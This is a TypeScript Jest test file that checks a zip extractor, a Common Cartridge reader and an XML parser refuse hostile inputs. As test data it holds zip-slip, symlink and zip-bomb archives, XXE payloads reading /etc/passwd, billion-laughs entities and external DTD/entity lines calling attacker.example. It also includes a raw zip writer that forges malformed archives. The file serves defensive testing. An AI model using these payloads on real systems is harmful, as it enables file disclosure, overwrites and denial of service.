/**
 * Hostile inputs, one row each: archives and XML documents crafted to escape
 * the target folder, exhaust memory or disk, hide names, or reach outside
 * through entities. Each must be refused with its own FormatError code and
 * reason, by the zip opener, by the extraction (nothing left on disk), by the
 * Common Cartridge reader and by the converter (no output file).
 */
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateRawSync } from 'node:zlib';
import { FormatError } from '../errors';
import { parseXmlSafely } from '../xml/safe-xml';
import { readCommonCartridge } from '../commoncartridge/cc-read';
import { convertCommonCartridge } from '../commoncartridge/cc-convert';
import { extractZipSafely } from './safe-extract';
import { openZipSafely, ZipLimits } from './safe-zip';

jest.setTimeout(60_000);

interface RawEntry {
  /** Name bytes (a string is encoded as UTF-8). */
  name: string | Buffer;
  data?: Buffer | string;
  /** Deflate the data (default true). */
  deflate?: boolean;
  /** Overrides of the header fields, to lie. */
  declaredSize?: number;
  flags?: number;
  /** Unix mode in the upper 16 bits of the external attributes (host = Unix). */
  unixMode?: number;
}

/**
 * A minimal zip writer that writes whatever it is told, including what a
 * proper library refuses to write (names with `..`, symlink modes, lying sizes).
 */
function rawZip(entries: RawEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.isBuffer(e.name) ? e.name : Buffer.from(e.name, 'utf8');
    const data = Buffer.isBuffer(e.data) ? e.data : Buffer.from(e.data ?? 'x', 'utf8');
    const deflate = e.deflate !== false;
    const body = deflate ? deflateRawSync(data) : data;
    const size = e.declaredSize ?? data.length;
    const crc = crc32(data);
    const flags = e.flags ?? (Buffer.isBuffer(e.name) ? 0 : 0x800);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(deflate ? 8 : 0, 8);
    local.writeUInt32LE(0, 10);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE((3 << 8) | 20, 4); // made by Unix
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(deflate ? 8 : 0, 10);
    central.writeUInt32LE(0, 12);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(((e.unixMode ?? 0o100644) << 16) >>> 0, 38);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += 30 + name.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const MANIFEST = `<?xml version="1.0"?>
<manifest identifier="M" xmlns="http://www.imsglobal.org/xsd/imsccv1p3/imscp_v1p1">
  <metadata><schema>IMS Common Cartridge</schema><schemaversion>1.3.0</schemaversion></metadata>
  <organizations/><resources/>
</manifest>`;

/** A cartridge whose manifest is fine, plus the hostile entry. */
const cartridgeWith = (...hostile: RawEntry[]) => rawZip([{ name: 'imsmanifest.xml', data: MANIFEST }, ...hostile]);

interface ZipCase {
  label: string;
  zip: () => Buffer;
  limits?: ZipLimits;
  code: string;
  reason: string;
  /** Refused only while inflating (the central directory looks fine). */
  atExtraction?: boolean;
}

const zipCases: ZipCase[] = [
  { label: 'zip slip ../', zip: () => cartridgeWith({ name: '../evil.txt' }), code: 'ZIP_UNSAFE_ENTRY_NAME', reason: 'PATH_TRAVERSAL' },
  { label: 'zip slip through a folder (a/../../)', zip: () => cartridgeWith({ name: 'a/../../evil.txt' }), code: 'ZIP_UNSAFE_ENTRY_NAME', reason: 'PATH_TRAVERSAL' },
  { label: 'absolute path', zip: () => cartridgeWith({ name: '/tmp/evil.txt' }), code: 'ZIP_UNSAFE_ENTRY_NAME', reason: 'ABSOLUTE_PATH' },
  { label: 'drive letter C:\\', zip: () => cartridgeWith({ name: 'C:\\Windows\\evil.dll' }), code: 'ZIP_UNSAFE_ENTRY_NAME', reason: 'DRIVE_LETTER' },
  { label: 'backslashes (..\\..\\)', zip: () => cartridgeWith({ name: '..\\..\\evil.txt' }), code: 'ZIP_UNSAFE_ENTRY_NAME', reason: 'BACKSLASH' },
  { label: 'symlink entry', zip: () => cartridgeWith({ name: 'link', data: '/etc/passwd', deflate: false, unixMode: 0o120777 }), code: 'ZIP_UNSAFE_ENTRY_NAME', reason: 'SYMLINK' },
  { label: 'device file entry', zip: () => cartridgeWith({ name: 'dev', unixMode: 0o020644 }), code: 'ZIP_UNSAFE_ENTRY_NAME', reason: 'SPECIAL_FILE' },
  {
    label: 'too many entries',
    zip: () => cartridgeWith(...Array.from({ length: 20 }, (_, i) => ({ name: `f${i}.txt` }))),
    limits: { maxEntries: 10 },
    code: 'ZIP_TOO_MANY_ENTRIES',
    reason: 'ENTRY_COUNT',
  },
  {
    label: 'zip bomb: total expanded size',
    zip: () => cartridgeWith(...Array.from({ length: 3 }, (_, i) => ({ name: `z${i}.bin`, data: Buffer.alloc(2 * 1024 * 1024) }))),
    limits: { maxTotalUncompressedBytes: 4 * 1024 * 1024 },
    code: 'ZIP_TOO_LARGE',
    reason: 'TOTAL_SIZE',
  },
  {
    label: 'zip bomb: expansion ratio',
    zip: () => cartridgeWith({ name: 'zeros.bin', data: Buffer.alloc(20 * 1024 * 1024) }),
    code: 'ZIP_TOO_LARGE',
    reason: 'COMPRESSION_RATIO',
  },
  {
    label: 'zip bomb: declared size smaller than the data',
    zip: () => cartridgeWith({ name: 'liar.bin', data: Buffer.alloc(1024 * 1024), declaredSize: 1000 }),
    code: 'ZIP_MALFORMED',
    reason: 'SIZE_MISMATCH',
    atExtraction: true,
  },
  {
    label: 'nested deep path',
    zip: () => cartridgeWith({ name: `${Array.from({ length: 40 }, (_, i) => `d${i}`).join('/')}/f.txt` }),
    code: 'ZIP_UNSAFE_ENTRY_NAME',
    reason: 'PATH_TOO_DEEP',
  },
  { label: 'RTL override in a name', zip: () => cartridgeWith({ name: 'invoice\u202Efdp.exe' }), code: 'ZIP_UNSAFE_ENTRY_NAME', reason: 'BIDI_CONTROL' },
  { label: 'NUL in a name', zip: () => cartridgeWith({ name: 'evil.txt\u0000.pdf' }), code: 'ZIP_UNSAFE_ENTRY_NAME', reason: 'CONTROL_CHARACTER' },
  {
    label: 'overlong UTF-8 (C0 AE = ".")',
    zip: () => cartridgeWith({ name: Buffer.from([0xc0, 0xae, 0xc0, 0xae, 0x2f, 0x65, 0x76, 0x69, 0x6c]), flags: 0x800 }),
    code: 'ZIP_UNSAFE_ENTRY_NAME',
    reason: 'INVALID_UTF8',
  },
  { label: 'fullwidth dots (．．／)', zip: () => cartridgeWith({ name: '\uFF0E\uFF0E/evil.txt' }), code: 'ZIP_UNSAFE_ENTRY_NAME', reason: 'UNICODE_LOOKALIKE' },
  { label: 'two entries with the same name', zip: () => cartridgeWith({ name: 'a.txt', data: 'one' }, { name: 'a.txt', data: 'two' }), code: 'ZIP_UNSAFE_ENTRY_NAME', reason: 'DUPLICATE_NAME' },
  { label: 'a file that is also a folder', zip: () => cartridgeWith({ name: 'a' }, { name: 'a/b.txt' }), code: 'ZIP_UNSAFE_ENTRY_NAME', reason: 'DUPLICATE_NAME' },
  { label: 'encrypted entry', zip: () => cartridgeWith({ name: 'secret.txt', flags: 0x801 }), code: 'ZIP_MALFORMED', reason: 'ENCRYPTED_ENTRY' },
  { label: 'not a zip', zip: () => Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(200, 0x41)]), code: 'ZIP_MALFORMED', reason: 'NOT_A_ZIP' },
];

async function failure(p: Promise<unknown>): Promise<{ code?: string; reason?: string; message: string }> {
  try {
    await p;
  } catch (e) {
    if (e instanceof FormatError) return { code: e.code, reason: e.reason, message: e.message };
    return { message: `not a FormatError: ${String(e)}` };
  }
  return { message: 'accepted' };
}

describe('hostile archives', () => {
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'hostile-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('every kind of attack has its own reason (variants of one attack share it)', () => {
    const variants = new Set(['PATH_TRAVERSAL', 'DUPLICATE_NAME']);
    const reasons = zipCases.map((c) => c.reason).filter((r) => !variants.has(r));
    expect(new Set(reasons).size).toBe(reasons.length);
  });

  it.each(zipCases.map((c) => [c.label, c] as const))('%s: refused with its code, nothing written', async (_label, c) => {
    const zip = c.zip();
    if (!c.atExtraction) {
      const opened = await failure(openZipSafely(zip, c.limits));
      expect(opened).toMatchObject({ code: c.code, reason: c.reason });
      expect(opened.message.length).toBeGreaterThan(10);
    }
    const target = join(dir, 'out');
    expect(await failure(extractZipSafely(zip, target, c.limits))).toMatchObject({ code: c.code, reason: c.reason });
    // Nothing left behind: no target, no partial folder.
    expect(existsSync(target)).toBe(false);
    expect(readdirSync(dir)).toEqual([]);
    if (!c.atExtraction) {
      // The Common Cartridge reader refuses it the same way.
      expect(await failure(readCommonCartridge(zip, c.limits))).toMatchObject({ code: c.code, reason: c.reason });
    }
    // And the converter writes no output.
    const out = join(dir, 'converted.imscc');
    expect(await failure(convertCommonCartridge(zip, { to: '1.3', outPath: out, limits: c.limits }))).toMatchObject({ code: c.code, reason: c.reason });
    expect(readdirSync(dir)).toEqual([]);
  });

  it('a sane archive built by the same writer is extracted (the table tests the hostility, not the writer)', async () => {
    const zip = cartridgeWith({ name: 'web_resources/a.txt', data: 'hello' }, { name: 'notes..v2.txt', data: 'two dots are fine' });
    const r = await extractZipSafely(zip, join(dir, 'ok'));
    expect(r.files).toBe(3);
    expect(readdirSync(join(dir, 'ok')).sort()).toEqual(['imsmanifest.xml', 'notes..v2.txt', 'web_resources']);
    expect((await readCommonCartridge(zip)).version).toBe('1.3');
  });

  it('refuses to extract over an existing folder', async () => {
    const zip = cartridgeWith();
    expect(await failure(extractZipSafely(zip, dir))).toMatchObject({ code: 'INVALID_INPUT', reason: 'TARGET_EXISTS' });
  });
});

interface XmlCase {
  label: string;
  xml: () => string | Buffer;
  code: string;
  reason: string;
  maxBytes?: number;
}

const xmlCases: XmlCase[] = [
  {
    label: 'XXE external entity',
    xml: () => '<?xml version="1.0"?><!DOCTYPE manifest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><manifest identifier="m">&xxe;</manifest>',
    code: 'XML_FORBIDDEN_CONSTRUCT',
    reason: 'EXTERNAL_ENTITY',
  },
  {
    label: 'billion laughs',
    xml: () =>
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><manifest>&lol2;</manifest>',
    code: 'XML_FORBIDDEN_CONSTRUCT',
    reason: 'ENTITY_EXPANSION',
  },
  {
    label: 'external DTD',
    xml: () => '<?xml version="1.0"?><!DOCTYPE manifest SYSTEM "http://attacker.example/evil.dtd"><manifest identifier="m"/>',
    code: 'XML_FORBIDDEN_CONSTRUCT',
    reason: 'EXTERNAL_DTD',
  },
  {
    label: 'parameter entity (out-of-band XXE)',
    xml: () => '<?xml version="1.0"?><!DOCTYPE m [<!ENTITY % remote SYSTEM "http://attacker.example/x">%remote;]><manifest/>',
    code: 'XML_FORBIDDEN_CONSTRUCT',
    reason: 'PARAMETER_ENTITY',
  },
  {
    label: 'internal entity declaration',
    xml: () => '<?xml version="1.0"?><!DOCTYPE m [<!ENTITY title "Injected">]><manifest>&title;</manifest>',
    code: 'XML_FORBIDDEN_CONSTRUCT',
    reason: 'ENTITY_DECLARATION',
  },
  {
    label: 'entity in an attribute',
    xml: () => '<?xml version="1.0"?><manifest identifier="&xxe;"/>',
    code: 'XML_FORBIDDEN_CONSTRUCT',
    reason: 'UNDECLARED_ENTITY',
  },
  {
    label: 'huge XML',
    xml: () => `<manifest>${'<item/>'.repeat(200_000)}</manifest>`,
    maxBytes: 1024 * 1024,
    code: 'XML_TOO_LARGE',
    reason: 'DOCUMENT_SIZE',
  },
  {
    label: 'deep nesting',
    xml: () => `<manifest>${'<item>'.repeat(5000)}${'</item>'.repeat(5000)}</manifest>`,
    code: 'XML_TOO_LARGE',
    reason: 'NESTING_DEPTH',
  },
  {
    label: 'bytes that are not the declared encoding',
    xml: () => Buffer.concat([Buffer.from('<?xml version="1.0" encoding="UTF-8"?><manifest>'), Buffer.from([0xc3, 0x28]), Buffer.from('</manifest>')]),
    code: 'XML_MALFORMED',
    reason: 'INVALID_ENCODING',
  },
];

describe('hostile XML', () => {
  it.each(xmlCases.map((c) => [c.label, c] as const))('%s: refused with its code', async (_label, c) => {
    let caught: unknown;
    try {
      parseXmlSafely(c.xml(), { maxBytes: c.maxBytes });
    } catch (e) {
      caught = e;
    }
    expect(caught).toBeInstanceOf(FormatError);
    expect(caught).toMatchObject({ code: c.code, reason: c.reason });
    if (c.maxBytes === undefined) {
      // Same refusal when the document is the manifest of a cartridge.
      const zip = rawZip([{ name: 'imsmanifest.xml', data: Buffer.isBuffer(c.xml()) ? (c.xml() as Buffer) : Buffer.from(c.xml() as string) }]);
      expect(await failure(readCommonCartridge(zip))).toMatchObject({ code: c.code, reason: c.reason });
    }
  });

  it('the entity-in-attribute message names the attribute', () => {
    expect(() => parseXmlSafely('<manifest identifier="&xxe;"/>')).toThrow(/attribute identifier of <manifest>/);
  });

  it('no two rows share a reason', () => {
    expect(new Set(xmlCases.map((c) => c.reason)).size).toBe(xmlCases.length);
  });
});
